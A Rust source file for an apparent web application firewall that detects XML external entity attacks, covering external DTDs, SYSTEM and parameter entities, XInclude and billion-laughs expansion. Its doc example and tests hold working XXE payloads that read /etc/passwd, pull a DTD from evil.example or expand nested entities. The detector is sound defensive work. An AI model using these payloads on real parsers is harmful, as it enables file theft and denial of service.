//! XML external entities: the document's DOCTYPE is parsed (root name, external ID, internal subset with
//! its quoted literals and comments) and judged: an external DTD (`SYSTEM`/`PUBLIC` on the DOCTYPE, unless
//! it is a W3C public identifier), an external general or parameter entity (`<!ENTITY x SYSTEM "...">`,
//! `<!ENTITY % p SYSTEM ...>`), a parameter-entity reference in the subset (`%p;`), or nested entity
//! expansion (billion laughs). XInclude (`<xi:include>` with the XInclude namespace) is found too.
//! A plain document, or a DOCTYPE with only internal literal entities, passes.
//!
//! Owns: the DTD view of XML. Must not touch: XML body parsing for the WAF (`crates/waf/src/body`).

use crate::{decode, Class, Finding};

const XINCLUDE_NS: &[u8] = b"http://www.w3.org/2001/xinclude";

/// Analyses an XML document (or a value carrying one, possibly URL/entity-encoded).
///
/// ```
/// use portcullis_detect::xxe::detect;
/// assert!(detect(br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#).is_some());
/// assert!(detect(br#"<?xml version="1.0"?><order><id>1</id></order>"#).is_none());
/// ```
pub fn detect(input: &[u8]) -> Option<Finding> {
    crate::decode::or_base64(input, detect_plain)
}

/// [`detect`] on a value that is its own only form (see the crate docs, "Own-form entry points").
#[doc(hidden)]
pub fn detect_own_form(input: &[u8]) -> Option<Finding> {
    analyse(input)
}

/// [`detect`] without the base64 layer.
fn detect_plain(input: &[u8]) -> Option<Finding> {
    analyse(input).or_else(|| {
        // Encoded XML in a parameter: only when the raw value does not already hold markup.
        if input.contains(&b'<') {
            return None;
        }
        let d = decode::deep(input);
        (*d != *input).then(|| analyse(&d)).flatten()
    })
}

fn finding(reason: &str, span: std::ops::Range<usize>, sig: &str) -> Finding {
    Finding { class: Class::Xxe, reason: reason.to_string(), span, signature: sig.to_string() }
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    crate::traversal::find(hay, needle)
}

fn analyse(b: &[u8]) -> Option<Finding> {
    // Every finding needs a markup declaration (`<!DOCTYPE`, `<!ENTITY`) or the XInclude namespace: one cheap
    // pass before the lowercase copy, since the pack runs this on every parameter.
    if !b.windows(2).any(|w| w == b"<!") && !b.windows(8).any(|w| w.eq_ignore_ascii_case(b"xinclude")) {
        return None;
    }
    let lower = b.to_ascii_lowercase();
    if let Some(f) = xinclude(&lower) {
        return Some(f);
    }
    // A document has one DOCTYPE; parsers read the first that is not inside a comment or CDATA.
    if let Some(at) = find(&lower, b"<!doctype") {
        if !hidden(&lower, at) {
            if let Some(f) = doctype(&lower, at) {
                return Some(f);
            }
        }
        return None;
    }
    // An external DTD file posted as a body: entity declarations at the top level.
    let at = find(&lower, b"<!entity")?;
    let prolog_only =
        lower[..at].iter().enumerate().all(|(k, &c)| c != b'<' || matches!(lower.get(k + 1), Some(b'!' | b'?')))
            && find(&lower[..at], b"<![cdata[").is_none();
    if prolog_only {
        entity_decls(&lower, 0, lower.len())
    } else {
        None
    }
}

/// Is offset `at` inside a comment or a CDATA section?
fn hidden(b: &[u8], at: usize) -> bool {
    let before = &b[..at];
    let open_comment = before.windows(4).rposition(|w| w == b"<!--");
    let close_comment = before.windows(3).rposition(|w| w == b"-->");
    let open_cdata = before.windows(9).rposition(|w| w == b"<![cdata[");
    let close_cdata = before.windows(3).rposition(|w| w == b"]]>");
    open_comment.is_some_and(|o| close_comment.is_none_or(|c| c < o))
        || open_cdata.is_some_and(|o| close_cdata.is_none_or(|c| c < o))
}

/// Public identifiers of DTDs that standard parsers and platforms ship (XHTML, SVG, plist, DocBook,
/// Java EE descriptors, ORM mappings): referencing them is ordinary.
const KNOWN_PUBLIC: &[&[u8]] = &[
    b"-//w3c//",
    b"-//apple//",
    b"-//apple computer//",
    b"-//oasis//",
    b"-//sun microsystems, inc.//",
    b"-//hibernate/",
    b"-//spring//",
    b"-//mybatis.org//",
    b"-//ibatis.apache.org//",
    b"-//apache software foundation//",
    b"-//ietf//",
];

fn skip_ws(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && b[i].is_ascii_whitespace() {
        i += 1;
    }
    i
}

fn name_end(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'[' | b'>' | b'"' | b'\'') {
        i += 1;
    }
    i
}

/// Reads a quoted literal at `i`; returns (contents range, index after the closing quote).
fn literal(b: &[u8], i: usize) -> Option<(std::ops::Range<usize>, usize)> {
    let q = *b.get(i)?;
    if q != b'"' && q != b'\'' {
        return None;
    }
    let close = b[i + 1..].iter().position(|&c| c == q)? + i + 1;
    Some((i + 1..close, close + 1))
}

fn doctype(b: &[u8], at: usize) -> Option<Finding> {
    let mut i = skip_ws(b, at + 9);
    i = name_end(b, i);
    i = skip_ws(b, i);
    let kw_end = name_end(b, i);
    let kw = &b[i..kw_end];
    if kw == b"system" || kw == b"public" {
        let mut j = skip_ws(b, kw_end);
        let (first, after) = literal(b, j)?;
        let mut system = first.clone();
        j = after;
        if kw == b"public" {
            j = skip_ws(b, j);
            if let Some((sys, after2)) = literal(b, j) {
                system = sys;
                j = after2;
            }
            let public_id = &b[first.clone()];
            let sys = &b[system.clone()];
            if KNOWN_PUBLIC.iter().any(|p| public_id.starts_with(p))
                && (sys.starts_with(b"http://") || sys.starts_with(b"https://"))
                && !sys.contains(&b'@')
            {
                let host = sys.split(|&c| c == b'/').nth(2).unwrap_or(b"");
                let vendor = [
                    &b"w3.org"[..],
                    b"apple.com",
                    b"oasis-open.org",
                    b"sun.com",
                    b"oracle.com",
                    b"hibernate.org",
                    b"springframework.org",
                    b"mybatis.org",
                    b"apache.org",
                    b"ietf.org",
                    b"docbook.org",
                ];
                if vendor.iter().any(|v| host == *v || host.ends_with(&[b".", *v].concat()[..])) {
                    return subset(b, j);
                }
            }
        }
        if kw == b"system" && &b[system.clone()] == b"about:legacy-compat" {
            return subset(b, j);
        }
        let url = String::from_utf8_lossy(&b[system.clone()]).into_owned();
        return Some(finding(&format!("DOCTYPE with external DTD {url:.80}"), at..j, "doctype-external"));
    }
    subset(b, i)
}

/// The internal subset `[ ... ]` starting at or after `i`.
fn subset(b: &[u8], i: usize) -> Option<Finding> {
    let i = skip_ws(b, i);
    if b.get(i) != Some(&b'[') {
        return None;
    }
    // The subset ends at `]` outside literals and comments.
    let mut j = i + 1;
    while j < b.len() && b[j] != b']' {
        match b[j] {
            b'"' | b'\'' => j = literal(b, j).map_or(b.len(), |(_, after)| after),
            b'<' if b[j..].starts_with(b"<!--") => j = find(&b[j..], b"-->").map_or(b.len(), |p| j + p + 3),
            _ => j += 1,
        }
    }
    entity_decls(b, i + 1, j.min(b.len()))
}

/// Entity declarations and parameter-entity references in `b[start..end]`.
fn entity_decls(b: &[u8], start: usize, end: usize) -> Option<Finding> {
    let region = &b[start..end];
    let mut internal_values: Vec<(Vec<u8>, std::ops::Range<usize>)> = Vec::new();
    // Once a quote of one kind has no closing partner from some offset on, no later literal of that kind
    // closes either: remember it so unterminated declarations stay linear.
    let mut no_close_from = [usize::MAX; 2];
    let mut lit = |i: usize| -> Option<(std::ops::Range<usize>, usize)> {
        let q = *region.get(i)?;
        let slot = usize::from(q == b'\'');
        if (q == b'"' || q == b'\'') && i >= no_close_from[slot] {
            return None;
        }
        let r = literal(region, i);
        if r.is_none() && (q == b'"' || q == b'\'') {
            no_close_from[slot] = no_close_from[slot].min(i);
        }
        r
    };
    let mut from = 0;
    while let Some(k) = find(&region[from..], b"<!entity") {
        let at = from + k;
        from = at + 8;
        let mut i = skip_ws(region, at + 8);
        let parameter = region.get(i) == Some(&b'%');
        if parameter {
            i = skip_ws(region, i + 1);
        }
        let n_end = name_end(region, i);
        let name = region[i..n_end].to_vec();
        i = skip_ws(region, n_end);
        let kw_end = name_end(region, i);
        let kw = &region[i..kw_end];
        if kw == b"system" || kw == b"public" {
            let j = skip_ws(region, kw_end);
            let target = lit(j).map(|(r, _)| String::from_utf8_lossy(&region[r]).into_owned()).unwrap_or_default();
            let what = if parameter { "external parameter entity" } else { "external entity" };
            return Some(finding(
                &format!("{what} {} -> {target:.80}", String::from_utf8_lossy(&name)),
                start + at..start + kw_end,
                if parameter { "entity-parameter" } else { "entity-system" },
            ));
        }
        if let Some((r, _)) = lit(i) {
            if internal_values.len() < 64 {
                internal_values.push((name, r));
            }
        }
    }
    // `%name;` used in the subset (not inside an entity value) pulls in declarations.
    let mut i = 0;
    while i < region.len() {
        match region[i] {
            b'"' | b'\'' => {
                i = literal(region, i).map_or(region.len(), |(_, after)| after);
                continue;
            }
            b'%' => {
                let n = region[i + 1..]
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b':'))
                    .count();
                if n > 0 && region.get(i + 1 + n) == Some(&b';') {
                    return Some(finding(
                        "parameter entity reference in the DTD",
                        start + i..start + i + n + 2,
                        "entity-parameter-ref",
                    ));
                }
            }
            _ => {}
        }
        i += 1;
    }
    // Billion laughs: entity values referencing other declared entities, several times.
    let names: Vec<&Vec<u8>> = internal_values.iter().map(|(n, _)| n).collect();
    for (name, r) in &internal_values {
        let v = &region[r.clone()];
        let mut refs = 0;
        for other in &names {
            let mut pat = Vec::with_capacity(other.len() + 2);
            pat.push(b'&');
            pat.extend_from_slice(other);
            pat.push(b';');
            refs += v.windows(pat.len().max(1)).filter(|w| *w == pat.as_slice()).count();
            if refs >= 2 {
                return Some(finding(
                    &format!("nested entity expansion in {}", String::from_utf8_lossy(name)),
                    start + r.start..start + r.end,
                    "entity-expansion",
                ));
            }
        }
    }
    None
}

fn xinclude(b: &[u8]) -> Option<Finding> {
    let ns = find(b, XINCLUDE_NS)?;
    // The prefix bound to the namespace: `xmlns:xi="http://www.w3.org/2001/XInclude"`.
    let before = &b[..ns];
    let decl = before.iter().rposition(|&c| c == b':').filter(|&p| before[..p].ends_with(b"xmlns"))?;
    let prefix_end = before[decl..].iter().position(|&c| c == b'=' || c.is_ascii_whitespace()).map(|p| p + decl)?;
    let prefix = &b[decl + 1..prefix_end];
    let mut tag = Vec::with_capacity(prefix.len() + 10);
    tag.push(b'<');
    tag.extend_from_slice(prefix);
    tag.extend_from_slice(b":include");
    let at = find(b, &tag)?;
    Some(finding("XInclude element", at..at + tag.len(), "xinclude"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn external_entities() {
        for a in [
            r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
            r#"<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/x.dtd"> %xxe;]><foo/>"#,
            r#"<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>"#,
            r#"<!DOCTYPE foo [<!ENTITY x PUBLIC "-//x" "http://evil.example/x">]><foo>&x;</foo>"#,
            r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#,
            r#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>"#,
            "%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E%5D%3E",
        ] {
            assert!(detect(a.as_bytes()).is_some(), "{a}");
        }
    }

    #[test]
    fn plain_xml() {
        for b in [
            r#"<?xml version="1.0"?><order><id>1</id></order>"#,
            r#"<!DOCTYPE note [<!ENTITY company "Acme">]><note>&company;</note>"#,
            r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>"#,
            "<!DOCTYPE html><html><body>50% off</body></html>",
            "The SYSTEM entity declaration is explained in chapter 3",
        ] {
            assert!(detect(b.as_bytes()).is_none(), "{b}: {:?}", detect(b.as_bytes()));
        }
    }
}
